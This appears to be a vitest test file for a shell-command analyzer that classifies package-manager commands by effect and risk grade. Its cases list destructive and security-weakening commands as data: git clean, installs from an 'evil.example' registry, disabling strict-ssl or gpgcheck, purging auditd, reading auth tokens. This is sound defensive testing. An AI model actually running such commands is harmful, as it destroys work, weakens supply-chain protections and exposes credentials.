import { describe, expect, it } from 'vitest'
import { effectsOf, readCommand } from '../../../analysis/testing.ts'
import type { FixedFacts } from '../../../facts/fixed.ts'

const project = (manifest: object): FixedFacts => ({
  files: { '/home/dev/project/package.json': JSON.stringify(manifest) },
})
const SCRIPTS = project({
  scripts: {
    test: 'vitest run',
    wipe: 'git clean -fdx',
    prebuild: 'git stash clear',
    build: 'tsc',
    again: 'npm run again',
    deep: 'npm run wipe',
    pass: 'git',
  },
  devDependencies: { 'left-tool': '1' },
})

describe('packages: what is stated', () => {
  const cases: readonly (readonly [string, Record<string, unknown>, FixedFacts?])[] = [
    ['npm run wipe', { kind: 'git-discard', wrapperNames: ['npm run wipe'] }, SCRIPTS],
    ['npm run deep', { kind: 'git-discard', wrapperNames: ['npm run deep', 'npm run wipe'] }, SCRIPTS],
    ['npm run build', { kind: 'git-discard', what: 'stash' }, SCRIPTS],
    ['yarn wipe', { kind: 'git-discard' }, SCRIPTS],
    ['pnpm wipe', { kind: 'git-discard' }, SCRIPTS],
    ['bun run wipe', { kind: 'git-discard' }, SCRIPTS],
    ['npm run pass -- reset --hard', { kind: 'git-discard', what: 'worktree' }, SCRIPTS],
    ['npm --prefix . run-script wipe', { kind: 'git-discard' }, SCRIPTS],
    ['npm run deploy:prod', { kind: 'deploy', environment: 'production', certainty: 'likely' }],
    ['pnpm release', { kind: 'publish', certainty: 'likely' }],
    ['npm run db:reset', { kind: 'database-change', statement: 'drop' }],
    ['npm install', { kind: 'install', origin: 'declared', scope: 'project' }],
    ['npm ci', { kind: 'install', origin: 'declared' }],
    ['npm i left-pad', { kind: 'install', origin: 'registry', packages: ['left-pad'] }],
    ['npm i -g left-pad', { kind: 'install', scope: 'user' }],
    ['npm install git+https://example.com/x.git', { kind: 'install', origin: 'git' }],
    ['npm install eve/evil', { kind: 'install', origin: 'git' }],
    ['npm install https://example.com/x.tgz', { kind: 'install', origin: 'url' }],
    ['npm install x@https://example.com/x.tgz', { kind: 'install', origin: 'url' }],
    ['npm install ./pkg', { kind: 'install', origin: 'local' }],
    ['npm install --registry https://evil.example x', { kind: 'install', origin: 'other-registry' }],
    ['npm install --registry=https://evil.example', { kind: 'install', origin: 'other-registry' }],
    ['yarn add x', { kind: 'install', origin: 'registry' }],
    ['npx unheard-of-tool', { kind: 'install', packages: ['unheard-of-tool'], certainty: 'likely' }],
    ['npx -y eve/evil', { kind: 'install', origin: 'git' }],
    ['npx -p evil evil-cli', { kind: 'install', packages: ['evil'] }],
    ['npx -c "git clean -f"', { kind: 'git-discard' }],
    ['pnpm dlx unheard-of-tool', { kind: 'install' }],
    ['npm exec unheard-of-tool', { kind: 'install' }],
    ['uvx unheard-of-tool', { kind: 'install' }],
    ['npm create unheard-of', { kind: 'install', packages: ['create-unheard-of'] }],
    ['npm publish', { kind: 'publish', removes: false }],
    ['npm unpublish x@1', { kind: 'publish', removes: true }],
    ['yarn npm publish', { kind: 'publish' }],
    ['npm owner add eve x', { kind: 'grant', to: 'eve' }],
    ['npm access public x', { kind: 'external-write', nature: 'visibility' }],
    ['npm config set strict-ssl false', { kind: 'weaken', area: 'tls' }],
    ['npm set strict-ssl=false', { kind: 'weaken', area: 'tls' }],
    ['npm config set registry https://evil.example', { kind: 'write-path', how: 'edit' }],
    ['npm config get //packages.acme.io/:_authToken', { kind: 'expose-secret' }],
    ['npm token create', { kind: 'expose-secret' }],
    ['npm test --script-shell "git clean -f"', { kind: 'git-discard' }],
    ['pip install requests', { kind: 'install', origin: 'registry' }],
    ['pip install -r requirements.txt', { kind: 'install', origin: 'declared' }],
    ['pip install -e .', { kind: 'install', origin: 'local' }],
    ['pip install git+https://example.com/x.git', { kind: 'install', origin: 'git' }],
    ['pip install --extra-index-url https://evil.example x', { kind: 'install', origin: 'other-registry' }],
    ['pip install --trusted-host pypi.org x', { kind: 'weaken', area: 'tls' }],
    ['uv pip install x', { kind: 'install', origin: 'registry' }],
    ['uv run git clean -f', { kind: 'git-discard', wrapperNames: ['uv run'] }],
    ['poetry publish', { kind: 'publish' }],
    ['twine upload dist/*', { kind: 'publish' }],
    ['gem push x.gem', { kind: 'publish' }],
    ['bundle exec git clean -f', { kind: 'git-discard' }],
    ['dnf --setopt gpgcheck=0 install jq', { kind: 'weaken', area: 'signing' }],
    ['dnf install jq --setopt=acme.sslverify=false', { kind: 'weaken', area: 'signing' }],
    ['apt-get install -y jq', { kind: 'install', scope: 'system', packages: ['jq'] }],
    ['dpkg -i x.deb', { kind: 'install', origin: 'url', scope: 'system' }],
    ['dpkg -i dist/x.deb', { kind: 'install', origin: 'local', scope: 'system' }],
    ['apt-get purge -y auditd', { kind: 'weaken', area: 'endpoint-protection' }],
    ['apt-get purge -y postgresql-16', { kind: 'database-change', statement: 'drop' }],
    ['brew install jq', { kind: 'install', scope: 'user' }],
    ['pacman -Syu htop', { kind: 'install' }],
    ['conda install -c eve x', { kind: 'install', origin: 'other-registry' }],
  ]
  for (const [command, fields, facts] of cases)
    it(`${command} ${JSON.stringify(fields)}`, () =>
      expect(effectsOf(command, facts)).toContainEqual(expect.objectContaining(fields)))
})

describe('packages: grades', () => {
  it.each([
    'npm ci',
    'npm install',
    'npm test --silent',
    'npm run lint',
    'npm run build:all --workspaces=false',
    'pnpm --filter ledger lint',
    'pnpm --filter ledger test',
    'pnpm install --frozen-lockfile --prefer-offline',
    'yarn',
    'yarn build',
    'bun run typecheck --watch',
    'bun test',
    'npx tsc --noEmit',
    'npx eslint src',
    'npx --no-install vitest run',
    'npx playwright test',
    'pnpm exec tsc',
    'pnpm dlx prettier --check .',
    'npm publish --dry-run',
    'npm run test -- --reporter=dot',
    'pip install -r requirements.txt',
    'pip install -e .[docs]',
    'uv sync',
    'uv run pytest -q',
    'poetry install',
    'poetry run pytest',
    'bundle install',
    'bundle exec rspec',
    'composer install',
    'rustup target add wasm32-unknown-unknown',
    'nvm use 22',
    'corepack enable',
  ])('expected: %s', (command) => expect(readCommand(command).grade).toBe('expected'))

  it.each([
    'npm ls',
    'npm view react version',
    'npm outdated',
    'npm --version',
    'npm config get registry',
    'pip list',
    'pip show x',
    'pip freeze',
    'brew list',
    'apt list --installed',
    'dpkg -l',
    'npx --version',
    'pnpm why x',
    'npm run',
  ])('proven: %s', (command) => expect(readCommand(command).grade).toBe('proven'))

  it.each([
    'npm publish',
    'npm run zap',
    'npm run $X',
    'npm i left-pad',
    'npx unheard-of-tool',
    'npm frobnicate',
    'apt install jq',
    'npm test $FLAGS',
    'pip install x',
    'npm run deploy',
  ])('none: %s', (command) => expect(readCommand(command).grade).toBeUndefined())

  it('takes a script it can read by its text alone', () => {
    expect(readCommand('npm run deploy', project({ scripts: { deploy: 'git log -2' } })).grade).toBe('expected')
    expect(effectsOf('npm run deploy', project({ scripts: { deploy: 'git log -2' } }))).toEqual([])
    expect(readCommand('npm test --silent', SCRIPTS).grade).toBe('expected')
  })
  it('ends when a script calls itself', () => expect(() => readCommand('npm run again', SCRIPTS)).not.toThrow())
  it('runs a declared tool without fetching it', () =>
    expect(effectsOf('npx left-tool', SCRIPTS).some((effect) => effect.kind === 'install')).toBe(false))
  it('survives a broken or hostile manifest', () => {
    for (const text of ['{', 'null', '[]', '{"scripts":null}', '{"scripts":{"__proto__":"x","test":3}}'])
      expect(() =>
        readCommand('npm test --silent', { files: { '/home/dev/project/package.json': text } }),
      ).not.toThrow()
  })
})
